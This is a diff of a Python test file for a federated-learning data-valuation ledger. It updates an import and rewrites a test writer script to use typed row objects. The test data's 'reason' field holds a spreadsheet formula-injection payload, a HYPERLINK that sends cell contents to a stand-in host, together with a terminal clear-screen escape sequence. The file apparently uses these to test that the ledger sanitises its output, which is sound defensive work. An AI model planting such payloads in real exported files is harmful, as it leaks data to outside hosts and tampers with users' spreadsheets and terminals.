@@ -39,7 +39,7 @@ def duplicate_rows_move_value(case: Case) -> list[Action]:
 
     def value_moved(case: Case, results: dict) -> str | None:
         try:
-            from fedvalue.run.ledger_tables import load_run
+            from fedvalue.analysis.run_summary import load_run
 
             summary = load_run(case.run).summary()
         except Exception:  # noqa: BLE001 - refused: nothing moved
@@ -151,10 +151,12 @@ def client_id_with_escape_sequences(case: Case) -> list[Action]:
 WRITER = r"""
 import sys
 from fedvalue.run.ledger_tables import LedgerWriter
+from fedvalue.schema import LedgerRow, RoundRow
 writer = LedgerWriter(sys.argv[1], config={"seed": 0})
-row = {"round": 1, "client_id": 3, "method": "ads", "value": None, "stderr": None, "num_examples": None,
-       "status": "failed", "noisy": False, "reason": '=HYPERLINK("http://x.example/?"&A1,"ok")\x1b[2J'}
-writer.write_round({"round": 1, "clients": "3", "num_clients": 1, "num_failed": 1}, [row])
+row = LedgerRow(round=1, client_id=3, method="ads", value=None, stderr=None, num_examples=None, status="failed",
+                noisy=False, reason='=HYPERLINK("http://x.example/?"&A1,"ok")\x1b[2J')
+writer.write_round(RoundRow(round=1, clients="3", num_clients=1, num_failed=1, utility_before=0.0,
+                            utility_realized=0.0), [row])
 """
 
 
